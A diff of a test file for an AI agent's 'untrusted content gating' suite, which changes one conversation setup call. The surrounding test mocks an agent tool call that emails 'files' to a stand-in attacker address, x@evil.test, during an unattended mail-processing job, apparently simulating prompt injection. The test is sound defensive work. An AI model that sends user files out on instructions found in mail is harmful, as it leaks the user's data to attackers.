@@ -160,7 +160,7 @@ describe('untrusted content gating', () => {
       { toolCalls: [{ name: 'test_email_send', arguments: { to: 'x@evil.test', body: 'files' } }] },
       { content: 'done' },
     );
-    const conversationId = app.conversations.ensure('job-mail', 'scheduler', 'mail');
+    const conversationId = app.conversations.ensure('job-mail', 'scheduler', 'mail', 'job');
     await app.agent.runTurn({
       conversationId, text: 'process my mail', origin: { channel: 'scheduler', chatId: 'mail' }, source: 'job', unattended: true,
       approve: async () => ({ approved: true, by: 'job approve list' }),
